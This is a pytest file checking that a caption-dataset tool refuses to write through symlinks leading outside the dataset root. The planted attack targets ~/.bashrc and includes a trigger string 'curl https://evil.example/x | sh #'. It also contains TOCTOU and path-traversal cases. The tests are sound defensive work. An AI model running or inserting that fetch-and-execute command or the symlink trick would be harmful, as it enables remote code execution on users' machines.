"""Issue 15 item 1: a downloaded dataset never makes captionls write outside its root.

The attack: a caption that is a symlink to `~/.bashrc`, and a captionls.toml whose trigger `check --fix`
puts at the front of every caption.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from captionls.server.caption.dataset import DatasetIndex
from captionls.server.caption.files import (
    CaptionWriteError,
    OutsideDatasetError,
    read_caption_file,
    resolve_inside,
)
from tests.kit.cli import cli, run
from tests.kit.datasets import rewrite_caption, write_dataset

EVIL = 'trigger = ["curl https://evil.example/x | sh #"]\n'
BASHRC = b"export PATH=$HOME/bin:$PATH\nold tag ,alias ll='ls -l'\n"


def planted(tmp_path: Path) -> tuple[Path, Path]:
    """A dataset whose `evil.txt` links to a `.bashrc` beside it; (dataset, .bashrc)."""
    home = tmp_path / "home"
    home.mkdir()
    bashrc = home / ".bashrc"
    bashrc.write_bytes(BASHRC)
    root = write_dataset(home / "dataset", {"good": "old tag ,smile", "evil": ""}, EVIL)
    (root / "evil.txt").unlink()
    (root / "evil.txt").symlink_to(bashrc)
    return root, bashrc


def test_check_fix_refuses_a_caption_linking_out(tmp_path: Path, vocabulary: Path) -> None:
    root, bashrc = planted(tmp_path)
    result = run(vocabulary, "check", root, "--fix", "--select", "missing-trigger,empty-tag")
    assert bashrc.read_bytes() == BASHRC
    assert result.exit_code == 1
    assert f"{root}/evil.txt:1:1: error read-error a link to {bashrc}, outside the dataset" in result.stdout
    # The dataset's own captions are still fixed.
    assert (root / "good.txt").read_text().startswith("curl https://evil.example/x | sh #,old tag")


def test_format_and_rename_refuse_it_too(tmp_path: Path) -> None:
    root, bashrc = planted(tmp_path)
    result = cli("format", root)
    assert bashrc.read_bytes() == BASHRC
    assert result.exit_code == 1 and "outside the dataset" in result.stderr
    result = cli("rename", "old tag", "new tag", root)
    assert bashrc.read_bytes() == BASHRC
    assert "changed 1 caption" in result.stdout
    assert (root / "good.txt").read_text().startswith("new tag")


def test_a_link_to_the_file_on_the_command_line_is_refused_as_well(tmp_path: Path, vocabulary: Path) -> None:
    root, bashrc = planted(tmp_path)
    result = run(vocabulary, "check", root / "evil.txt", "--fix")
    assert bashrc.read_bytes() == BASHRC
    assert "read-error a link to" in result.stdout and result.exit_code == 1


def test_the_index_never_reads_outside(tmp_path: Path) -> None:
    root, _ = planted(tmp_path)
    index = DatasetIndex(root)
    index.scan()
    assert index.captions() == [root / "good.txt"]
    assert "not followed" in index.errors[root / "evil.txt"]
    assert index.captions_using("old tag") == [root / "good.txt"]  # .bashrc's line 2 is not read


def test_a_caption_swapped_for_a_link_after_reading_is_not_written(tmp_path: Path) -> None:
    root, bashrc = planted(tmp_path)
    caption = root / "good.txt"
    file = read_caption_file(caption)
    caption.unlink()
    caption.symlink_to(bashrc)
    with pytest.raises(CaptionWriteError, match="outside the dataset"):
        rewrite_caption(caption, file, "pwned, " + file.text, root)
    assert bashrc.read_bytes() == BASHRC


def test_links_inside_the_dataset_are_resolved(tmp_path: Path) -> None:
    root, _ = planted(tmp_path)
    (root / "sub").mkdir()
    (root / "sub" / "link.txt").symlink_to(root / "good.txt")
    assert resolve_inside(root / "sub" / "link.txt", root) == (root / "good.txt").resolve()
    assert resolve_inside(root / "good.txt", root / ".") == (root / "good.txt").resolve()
    with pytest.raises(OutsideDatasetError):
        resolve_inside(root / "good.txt", root / "sub")
    with pytest.raises(OutsideDatasetError):
        resolve_inside(root / "sub" / ".." / ".." / ".bashrc", root)
